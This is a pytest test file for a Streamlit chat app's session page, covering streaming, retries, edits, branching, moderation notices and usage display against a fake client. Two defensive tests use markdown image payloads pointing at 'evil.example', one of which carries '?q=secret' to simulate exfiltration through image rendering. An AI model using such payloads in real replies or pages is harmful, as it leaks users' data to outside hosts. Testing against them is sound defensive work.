"""A session from its start to its recap, with what can go wrong on the way."""

from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from datetime import date
from threading import Event
from typing import Literal

import pytest
from streamlit.testing.v1 import AppTest

from frontend.state import Asked
from frontend.stream_reader import StreamReader
from gptlab.api import operations
from gptlab.api.accounts import Model, ModelList
from gptlab.api.fields import ModelConfig
from gptlab.api.sessions import FailedTurn, Moderation, SendMessage, Turn, Usage
from gptlab.api.stream import Delta, Notice
from gptlab.api.stream import Event as StreamEvent
from gptlab.client import Unreachable, errors
from tests.frontend.conftest import Opened, has, texts
from tests.frontend.fake_client import DEMO, FakeClient, a_bot, code


@pytest.fixture
def chat(opened: Opened) -> AppTest:
    """A session that has just begun."""
    app = opened("assistant", bot_info=a_bot(1))
    return app.button(key="start").click().run()


SAID = Asked("message", "key-of-it", "Two?")
Held = Callable[..., StreamReader[Turn]]


@pytest.fixture
def held() -> Iterator[Held]:
    """Makes replies that stay under way until the test is over."""
    over = Event()

    def make(text: str, *notices: Literal["memory_condensed", "withheld"]) -> StreamReader[Turn]:
        told = Event()
        reader = StreamReader(_unfinished(text, notices, told, over))
        assert told.wait(60)
        return reader

    yield make
    over.set()


def _unfinished(
    text: str, notices: Sequence[Literal["memory_condensed", "withheld"]], told: Event, over: Event
) -> Iterator[StreamEvent | Turn]:
    yield Notice(code="started", session_id=code(1000))
    yield Delta(text=text)
    yield from (Notice(code=notice) for notice in notices)
    told.set()
    over.wait(60)


def under_way(app: AppTest, reader: StreamReader[Turn]) -> None:
    """Someone has said something, and this is being answered."""
    app.session_state["session_asked"] = replace(SAID, reader=reader)
    app.run()


def _message(session_id: str) -> SendMessage:
    return SendMessage.of(session_id=session_id, message=SAID.text)


def say(app: AppTest, text: str) -> AppTest:
    return app.chat_input[0].set_value(text).run()


def test_the_assistant_speaks_first_and_then_answers(chat: AppTest) -> None:
    assert "Reply 1" in texts(chat)
    say(chat, "Hello *there*")
    assert "Hello *there*" in texts(chat)
    assert "Reply 2" in texts(chat)


def test_the_chosen_model_is_the_one_used(opened: Opened, fake: FakeClient) -> None:
    app = opened("assistant", bot_info=a_bot(1))
    app.selectbox(key=f"model_{code(1)}").select("demo-large")
    app.button(key="start").click().run()
    assert ("start_session", (code(1), "demo-large")) in [asked[:2] for asked in fake.asked]


def test_a_key_without_the_bots_model_gets_the_first_it_has(
    opened: Opened, fake: FakeClient
) -> None:
    fake.models = ["other-1", "other-2"]
    app = opened("assistant", bot_info=a_bot(1))
    assert app.selectbox(key=f"model_{code(1)}").value == "other-1"
    assert "no access to demo" in texts(app)


def test_a_failed_turn_keeps_the_text_and_retries_with_the_same_key(
    chat: AppTest, fake: FakeClient
) -> None:
    fake.failures["send_message"] = [errors.ProviderTimeout(request_id="req-1")]
    say(chat, "Still here?")
    assert "Still here?" in texts(chat)
    assert "req\\-1" in texts(chat)
    assert chat.chat_input[0].disabled
    chat.button(key="retry").click().run()
    assert "Reply 2" in texts(chat)
    first, second = fake.keys("send_message")
    assert first == second


def test_a_reply_that_breaks_off_stays_with_the_failure_until_retry(
    chat: AppTest, fake: FakeClient
) -> None:
    fake.replies = iter(["Half a thought and more", "All of it"])
    fake.breaks = [errors.ProviderError(request_id="req-2")]
    say(chat, "Go on")
    broken = texts(chat)
    assert "Half a" in broken
    assert "thought" not in broken
    assert "Broken off here" in broken
    assert "req\\-2" in broken
    chat.button(key="retry").click().run()
    assert "Half a" not in texts(chat)
    assert "All of it" in texts(chat)
    first, second = fake.keys("send_message")
    assert first == second


def test_a_stopped_reply_is_shown_as_it_is_stored(
    chat: AppTest, fake: FakeClient, held: Held
) -> None:
    session_id = chat.session_state["session_id"]
    under_way(chat, held("One two"))
    assert "One two" in texts(chat)
    assert chat.button(key="stop")
    pending = FailedTurn(message=SAID.text, code=None, retryable=True)
    conversation = fake.conversations[session_id]
    fake.conversations[session_id] = conversation.model_copy(update={"pending": pending})
    chat.button(key="stop").click().run()
    assert fake.keys("stop_message") == [SAID.key]
    assert "Stopped" in texts(chat)
    assert "One two" in texts(chat)
    assert not has(chat, "stop")

    fake.conversations[session_id] = conversation
    reply = fake.send_message(session_id, SAID.text).reply
    stored = [
        *fake.conversations[session_id].messages[:-1],
        reply.model_copy(update={"stopped": True}),
    ]
    fake.conversations[session_id] = conversation.model_copy(update={"messages": stored})
    chat.run()
    assert reply.content in texts(chat)
    assert "Stopped" in texts(chat)
    assert "One two" not in texts(chat)
    say(chat, "And now?")
    assert "Reply 3" in texts(chat)


def test_a_stop_that_does_not_get_through_says_so_and_the_reply_goes_on(
    chat: AppTest, fake: FakeClient, held: Held
) -> None:
    under_way(chat, held("One two"))
    fake.failures["stop_message"] = [errors.StoreUnavailable(request_id="req-3")]
    chat.button(key="stop").click().run()
    assert "req\\-3" in texts(chat)
    assert "One two" in texts(chat)
    assert has(chat, "stop")


def test_what_is_sent_while_a_reply_comes_waits_in_the_input(
    chat: AppTest, fake: FakeClient, held: Held
) -> None:
    under_way(chat, held("One two"))
    say(chat, "Me first")
    assert fake.keys("send_message") == []
    assert chat.session_state["session_asked"].text == SAID.text


def test_a_reply_that_ended_while_another_page_was_open_is_there(
    opened: Opened, fake: FakeClient
) -> None:
    turn = fake.start_session(code(1))
    session_id = turn.session.session_id
    ended = StreamReader(
        fake.stream(operations.SEND_MESSAGE, _message(session_id), idempotency_key=SAID.key)
    )
    ended.answer()
    app = opened(
        "lounge",
        bot_info=a_bot(1),
        session_id=session_id,
        session_msg_list=(turn.reply,),
        session_asked=replace(SAID, reader=ended),
    )
    app.switch_page("app_pages/assistant.py").run()
    assert "Reply 2" in texts(app)
    assert fake.keys("send_message") == [SAID.key]


def test_what_the_moderation_flagged_is_named(chat: AppTest, fake: FakeClient) -> None:
    fake.moderation = Moderation(status="flagged", categories=["harassment"])
    say(chat, "You fool")
    assert "flagged your last message: harassment" in texts(chat)
    assert "Reply 2" in texts(chat)


def test_condensed_memory_is_said_while_the_reply_comes(chat: AppTest, held: Held) -> None:
    under_way(chat, held("One", "memory_condensed"))
    assert "condensed into a summary" in texts(chat)


def test_a_withheld_reply_is_taken_back(chat: AppTest, held: Held) -> None:
    under_way(chat, held("My instructions are", "withheld"))
    assert "My instructions" not in texts(chat)
    assert "The reply was withheld" in texts(chat)


def test_an_edited_message_is_another_message(chat: AppTest, fake: FakeClient) -> None:
    fake.failures["send_message"] = [errors.Blocked()]
    say(chat, "First wording")
    chat.button(key="edit").click().run()
    assert "First wording" not in texts(chat)
    say(chat, "Second wording")
    first, second = fake.keys("send_message")
    assert first != second


def test_a_discarded_message_is_gone(chat: AppTest, fake: FakeClient) -> None:
    fake.failures["send_message"] = [errors.Blocked()]
    say(chat, "Never mind")
    chat.button(key="discard").click().run()
    assert "Never mind" not in texts(chat)
    assert not chat.chat_input[0].disabled


def test_an_expired_sign_in_keeps_the_chat_and_the_text(chat: AppTest, fake: FakeClient) -> None:
    fake.failures["send_message"] = [errors.TokenExpired()]
    say(chat, "Do not lose this")
    assert chat.text_input(key="key_field")
    assert "Reply 1" in texts(chat)
    assert "Do not lose this" in texts(chat)
    assert "Your sign\\-in has expired" in texts(chat)
    assert not has(chat, "retry")


def test_a_message_answered_elsewhere_is_not_sent_again(opened: Opened, fake: FakeClient) -> None:
    session = fake.start_session(code(1)).session
    fake.send_message(session.session_id, "One")
    pending = FailedTurn(message="Two", code=None, retryable=True)
    conversation = fake.conversations[session.session_id]
    fake.conversations[session.session_id] = conversation.model_copy(update={"pending": pending})
    app = opened("assistant", bot_info=a_bot(1))
    app.button(key=f"resume_{session.session_id}").click().run()
    assert "Two" in texts(app)
    assert "still being made" in texts(app)
    assert not has(app, "retry")

    fake.conversations[session.session_id] = conversation
    fake.send_message(session.session_id, "Two")
    assert "Reply 3" in texts(app.run())
    assert fake.keys("send_message") == [None, None]


def test_a_start_that_failed_is_repeated_with_its_key(opened: Opened, fake: FakeClient) -> None:
    fake.failures["start_session"] = [errors.ProviderError()]
    app = opened("assistant", bot_info=a_bot(1))
    app.button(key="start").click().run()
    app.button(key="start").click().run()
    first, second = fake.keys("start_session")
    assert first == second
    assert "Reply 1" in texts(app)


def test_fifty_messages_are_drawn_and_earlier_ones_offered(
    opened: Opened, fake: FakeClient
) -> None:
    session = fake.start_session(code(1)).session
    for number in range(60):
        fake.send_message(session.session_id, f"Word {number}.")
    app = opened("assistant", bot_info=a_bot(1))
    app.button(key=f"resume_{session.session_id}").click().run()
    assert len(app.chat_message) == 50
    app.button(key="earlier").click().run()
    assert len(app.chat_message) == 100
    app.button(key="earlier").click().run()
    assert len(app.chat_message) == 121
    assert not has(app, "earlier")
    said = texts(app)
    assert said.index("Word 0.") < said.index("Word 59.")


def test_a_message_is_few_elements_and_no_picture(chat: AppTest) -> None:
    """All are sent and drawn again in every run, so the time of a run is their number's."""
    say(say(chat, "One."), "Two.")
    mine, reply, again = 2, 3, 1
    drawn = [len(list(bubble)) for bubble in chat.chat_message]
    assert drawn == [reply, mine, reply, mine, reply + again]
    assert all(len(bubble.avatar) < 100 for bubble in chat.chat_message)


def test_concluding_shows_the_recap_and_rates_it(chat: AppTest, fake: FakeClient) -> None:
    assert not has(chat, "conclude")
    say(chat, "Hello")
    chat.button(key="conclude").click().run()
    assert "We talked about **reasons**." in texts(chat)
    session_id = chat.session_state["session_id"]
    chat.feedback(key=f"thumbs_{session_id}").set_value(1).run()
    assert fake.conversations[session_id].session.user_liked == 1
    chat.button(key="resume").click().run()
    assert chat.chat_input[0]


def test_a_strangers_reply_brings_no_picture(opened: Opened, fake: FakeClient) -> None:
    fake.replies = iter(["See ![you](https://evil.example/?q=secret)\n```md\n![x](y)\n```"])
    app = opened("assistant", bot_info=a_bot(1)).button(key="start").click().run()
    assert not [text for text in app.markdown if "evil.example" in str(text.value)]
    assert "![x](y)" in [block.value for block in app.code]


def test_a_strangers_name_is_only_text(opened: Opened) -> None:
    app = opened("assistant", bot_info=a_bot(1, name="![](//evil.example/x)"))
    assert app.title[0].value == r"\!\[\]\(\/\/evil\.example\/x\)"


def test_another_reply_takes_the_place_of_the_last(chat: AppTest, fake: FakeClient) -> None:
    say(chat, "Hello")
    chat.button(key="another").click().run()
    assert "Reply 2" not in texts(chat)
    assert "Reply 3" in texts(chat)
    assert len(chat.chat_message) == 3


def test_another_reply_that_fails_leaves_the_last_and_is_asked_for_with_its_key(
    chat: AppTest, fake: FakeClient
) -> None:
    fake.failures["regenerate_reply"] = [errors.ProviderQuota(request_id="req-4")]
    chat.button(key="another").click().run()
    assert "no credit left" in texts(chat)
    assert "Reply 1" in texts(chat)
    chat.button(key="another").click().run()
    first, second = fake.keys("regenerate_reply")
    assert first == second


def test_an_opening_can_be_stopped_and_is_shown_as_it_is_stored(
    opened: Opened, fake: FakeClient, held: Held
) -> None:
    turn = fake.start_session(code(1))
    assert turn.session.session_id == code(1000)
    opening = Asked("opening", "key-of-it", reader=held("Good"))
    app = opened("assistant", bot_info=a_bot(1), session_asked=opening)
    assert "Good" in texts(app)
    app.button(key="stop").click().run()
    assert fake.keys("stop_message") == ["key-of-it"]
    assert "Reply 1" in texts(app)
    assert app.session_state["session_id"] == code(1000)


def test_a_recap_can_be_stopped(chat: AppTest, fake: FakeClient, held: Held) -> None:
    say(chat, "Hello")
    chat.session_state["session_asked"] = Asked("recap", "key-of-it", reader=held("We"))
    chat.run()
    assert "We" in texts(chat)
    fake.end_session(chat.session_state["session_id"])
    chat.button(key="stop").click().run()
    assert "We talked about **reasons**." in texts(chat)


def test_what_another_tab_said_meanwhile_is_there_after_the_reply(
    chat: AppTest, fake: FakeClient
) -> None:
    fake.send_message(chat.session_state["session_id"], "From the other tab")
    say(chat, "From here")
    assert "From the other tab" in texts(chat)
    assert len(chat.chat_message) == 5


def test_a_session_that_another_tab_concluded_is_resumed_with_the_message(
    chat: AppTest, fake: FakeClient
) -> None:
    fake.failures["send_message"] = [errors.SessionEnded()]
    say(chat, "I was not done")
    assert chat.button(key="retry").label == "Resume and send"
    chat.button(key="retry").click().run()
    assert "Reply 2" in texts(chat)
    assert fake.keys("resume_session") == [None]


@pytest.mark.parametrize(
    "error",
    [errors.ProviderQuota, errors.ProviderKeyInvalid, errors.SpendLimitReached, Unreachable],
    ids=lambda kind: kind.code,
)
def test_whatever_fails_the_words_stay(
    chat: AppTest, fake: FakeClient, error: type[errors.GPTLabError]
) -> None:
    fake.failures["send_message"] = [error()]
    say(chat, "Keep me")
    assert "Keep me" in texts(chat)
    assert chat.error or chat.warning
    chat.button(key="edit").click().run()
    assert chat.chat_input[0].value == "Keep me"


def test_a_reached_spending_limit_offers_to_raise_it_first(chat: AppTest, fake: FakeClient) -> None:
    fake.failures["send_message"] = [errors.SpendLimitReached()]
    say(chat, "Keep me")
    kinds = {button.key: button.proto.type for button in chat.button}
    assert (kinds["raise_limit"], kinds["retry"]) == ("primary", "secondary")


def test_what_a_reply_and_the_session_took_is_said(chat: AppTest) -> None:
    assert "321 tokens in, 45 out · US$0.0004" in texts(chat)


def test_the_context_window_stands_beside_the_model(opened: Opened) -> None:
    app = opened("assistant", bot_info=a_bot(1))
    assert "16,000 tokens" in app.selectbox(key=f"model_{code(1)}").help


@pytest.mark.parametrize("sign", ["x", "🧪", "再"])
def test_a_message_that_is_too_long_is_kept_and_how_much_is_said(
    chat: AppTest, fake: FakeClient, sign: str
) -> None:
    say(chat, sign * 8_500)

    assert not fake.keys("send_message")
    assert "8,500 of 8,000 characters · **500 too many**" in chat.warning[0].value
    assert chat.chat_input[0].proto.value == sign * 8_500

    say(chat, sign * 8_000)

    assert sign * 8_000 in texts(chat)
    assert not chat.warning


def test_an_assistant_without_a_model_says_that_the_first_good_one_is_chosen(
    opened: Opened, fake: FakeClient
) -> None:
    bot = a_bot(1, config=ModelConfig())
    fake.bots[bot.bot_id] = bot
    app = opened("assistant", bot_info=bot)
    assert "the first good model of your key" in texts(app)
    app.button(key="start").click().run()
    assert ("start_session", (code(1), "demo-small")) in [asked[:2] for asked in fake.asked]


def test_where_the_provider_lists_no_models_one_is_typed(opened: Opened, fake: FakeClient) -> None:
    fake.models = []
    bot = a_bot(1, config=ModelConfig())
    fake.bots[bot.bot_id] = bot
    app = opened("assistant", bot_info=bot).button(key="start").click().run()
    assert app.warning[0].value == "Please type the name of a model first."
    app.text_input(key=f"model_{code(1)}").set_value("my-model").run()
    app.button(key="start").click().run()
    assert ("start_session", (code(1), "my-model")) in [asked[:2] for asked in fake.asked]


def test_what_is_known_of_a_model_is_said_where_it_is_chosen(
    opened: Opened, monkeypatch: pytest.MonkeyPatch, fake: FakeClient
) -> None:
    model = Model(
        model="demo-small",
        context_window=128_000,
        input_usd=0.1,
        output_usd=0.5,
        shutdown_date=date(2027, 1, 14),
        successor="demo-new",
    )
    listed = ModelList(models=[model], default_model="demo-small", provider=DEMO)
    monkeypatch.setattr(fake, "list_models", lambda: listed)
    app = opened("assistant", bot_info=a_bot(1))
    help_ = app.selectbox(key=f"model_{code(1)}").help
    assert "128,000 tokens" in help_
    assert r"US\$0\.10 in and US\$0\.50 out" in help_
    assert r"ends this model on 14 Jan 2027. demo\-new can take its place." in texts(app)


def test_a_reply_that_reached_its_limit_says_so_and_what_to_do(
    chat: AppTest, fake: FakeClient
) -> None:
    session_id = chat.session_state["session_id"]
    conversation = fake.get_session(session_id)
    usage = Usage(
        input_tokens=2_321, output_tokens=145, cached_tokens=2_000, reasoning_tokens=64,
        source="provider",
    )  # fmt: skip
    cut = conversation.messages[-1].model_copy(update={"reached_limit": True, "usage": usage})
    fake.conversations[session_id] = conversation.model_copy(update={"messages": [cut]})
    chat.session_state["session_msg_list"] = (cut,)
    page = texts(chat.run())
    assert "Cut off at its token limit" in page
    assert "2,321 tokens in, 145 out · 2,000 from the cache · 64 for reasoning" in page
    assert "Write “go on”" in page
    say(chat, "go on")
    assert "Write “go on”" not in texts(chat)


def test_what_came_of_a_reply_that_failed_is_kept_with_retry_also_after_a_reload(
    opened: Opened, fake: FakeClient
) -> None:
    session = fake.start_session(code(1)).session
    conversation = fake.conversations[session.session_id]
    pending = FailedTurn(
        message="Two?", code="reply_truncated", retryable=True, partial_reply="Half a *thought*"
    )
    fake.conversations[session.session_id] = conversation.model_copy(update={"pending": pending})
    app = opened("past_sessions").button(key=f"open_{session.session_id}").click().run()
    page = texts(app)
    assert "Two?" in page
    assert "Half a *thought*" in page
    assert "Broken off here" in page
    assert "The reply broke off" in page
    assert has(app, "retry")


def edit(app: AppTest, message_id: str) -> AppTest:
    """As a press of the button does, which only a browser has."""
    app.session_state["session_editing"] = message_id
    return app.run()


def test_an_edited_message_begins_a_branch_and_the_earlier_one_can_be_looked_at(
    chat: AppTest, fake: FakeClient
) -> None:
    say(chat, "One?")
    say(chat, "Two?")
    edit(chat, "000002-1u")
    assert "You are changing an earlier message" in texts(chat)
    say(chat, "Uno?")
    written = texts(chat)
    assert "Uno?" in written
    assert "One?" not in written
    assert "Two?" not in written
    assert "Version 2 of 2" in written
    chat.session_state["session_branch"] = "000002-1u"
    chat.session_state["session_msg_list"] = fake.branches["000002-1u"]
    chat.run()
    assert "Two?" in texts(chat)
    assert chat.chat_input[0].disabled
    assert not has(chat, "another")
    assert not has(chat, "conclude")
    chat.button(key="leave_bar").click().run()
    assert "Uno?" in texts(chat)
    assert not chat.chat_input[0].disabled


def test_a_failed_edit_keeps_its_text_and_place_over_retry_and_edit(
    chat: AppTest, fake: FakeClient
) -> None:
    say(chat, "One?")
    say(chat, "Two?")
    fake.failures["edit_message"] = [errors.ProviderTimeout(), errors.ProviderTimeout()]
    say(edit(chat, "000002-1u"), "Uno?")
    assert "One?" not in texts(chat)
    chat.button(key="retry").click().run()
    chat.button(key="edit").click().run()
    assert "One?" in texts(chat)
    assert chat.chat_input[0].value == "Uno?"
    say(chat, "Uno, then?")
    assert "Reply 4" in texts(chat)
    asked = [(what, key) for name, what, key in fake.asked if name == "edit_message"]
    assert [what for what, _ in asked] == [
        ("000002-1u", "Uno?"), ("000002-1u", "Uno?"), ("000002-1u", "Uno, then?"),
    ]  # fmt: skip
    assert asked[0][1] == asked[1][1] != asked[2][1]


def test_an_edit_can_be_called_off(chat: AppTest) -> None:
    say(chat, "One?")
    edit(chat, "000002-1u").button(key="leave_bar").click().run()
    assert "You are changing" not in texts(chat)
    say(chat, "Two?")
    assert "One?" in texts(chat)


def test_an_edit_that_was_left_unanswered_is_found_again(chat: AppTest, fake: FakeClient) -> None:
    say(chat, "One?")
    session_id = chat.session_state["session_id"]
    pending = FailedTurn(message="Uno?", code="provider_error", retryable=True, edits="000002-1u")
    kept = fake.conversations[session_id].model_copy(update={"pending": pending})
    fake.conversations[session_id] = kept
    chat.button(key=f"recent_{session_id}").click().run()
    chat.button(key="retry").click().run()
    assert ("edit_message", ("000002-1u", "Uno?")) in [asked[:2] for asked in fake.asked]


def test_the_rest_of_a_session_can_be_had_of_another_model(chat: AppTest, fake: FakeClient) -> None:
    chat.session_state["session_model"] = True
    chat.run()
    choice = chat.selectbox(key=f"session_model_{chat.session_state['session_id']}")
    assert choice.value == "demo-small"
    choice.select("demo-large").run()
    assert ("change_model", "demo-large") in [asked[:2] for asked in fake.asked]
    assert "demo\\-large" in texts(chat)


def test_a_model_that_cannot_be_had_is_said_and_the_session_keeps_its_own(
    chat: AppTest, fake: FakeClient
) -> None:
    fake.failures["change_model"] = [errors.StoreUnavailable()]
    chat.session_state["session_model"] = True
    chat.run()
    key = f"session_model_{chat.session_state['session_id']}"
    chat.selectbox(key=key).select("demo-large").run()
    assert "The database is not reachable" in texts(chat)
    assert chat.selectbox(key=key).value == "demo-small"


def test_only_a_session_that_goes_on_has_messages_to_edit(chat: AppTest) -> None:
    say(chat, "One?")
    assert "Edit this message and go on from there" in texts(chat)
    chat.button(key="conclude").click().run()
    assert "One?" in texts(chat)
    assert "Edit this message and go on from there" not in texts(chat)
